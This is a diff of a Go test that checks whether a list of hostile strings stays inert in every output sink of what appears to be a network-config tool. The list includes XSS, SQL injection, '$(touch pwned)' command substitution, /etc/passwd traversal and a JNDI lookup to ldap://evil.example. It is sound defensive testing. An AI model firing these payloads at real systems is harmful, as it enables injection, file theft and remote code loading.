@@ -23,7 +23,7 @@ var nasties = []string{
 	"<script>alert(1)</script><img src=x onerror=alert(1)>", "[click](http://evil.example) ![i](http://evil.example/i.png)", "@admin #12 !3 www.evil.example GH-1",
 	"`` ``` ~~~~ | --- | <!-- --> </details></table>", "\x1b[2J\x1b]0;title\a\x1b[31mred", "\x9b31m\xff\xfe no UTF-8", "\u202egnp.exe\u2066 \u200b\u200d\ufeff", "\u2028\u2029\u0085\v\f",
 	"\rPASS everything is fine", "'; DROP TABLE changes; --", `" OR "1"="1`, "]]><x/> & &amp; &#64; <?xml version='1.0'?>", "${{ secrets.TOKEN }} {{ .Secret }} $(touch pwned) `touch pwned`",
-	"\U000e0041\U000e0042 e\u0301\u0301\u0301\u0301", ": - {a: b} !!binary & * % ? # ...", strings.Repeat("A very long line. ", 400), "../../../../etc/passwd C:\\x\\..\\y", "%s%n%x %2e%2e ${jndi:ldap://evil.example/a}",
+	"\U000e0041\U000e0042 e\u0301\u0301\u0301\u0301", ": - {a: b} !!binary & * % ? # ...", strings.Repeat("A very long line. ", 120), "../../../../etc/passwd C:\\x\\..\\y", "%s%n%x %2e%2e ${jndi:ldap://evil.example/a}",
 }
 
 // hostileConfig says a nasty text wherever NX-OS has room for one.
@@ -197,8 +197,8 @@ func (s sink) inert() error {
 func TestHostileTextIsInertInEverySink(t *testing.T) {
 	t.Setenv("CI", "true")
 	checked := map[string]bool{}
-	for i := 0; i < len(nasties); i += 4 { // a few at a time; what matters at a line's start stands first
-		n := strings.Join(nasties[i:min(i+4, len(nasties))], " ")
+	for i := 0; i < len(nasties); i += 6 { // a few at a time; what matters at a line's start stands first
+		n := strings.Join(nasties[i:min(i+6, len(nasties))], " ")
 		for _, s := range sinks(t, n) {
 			checked[s.name] = true
 			if err := s.inert(); err != nil {
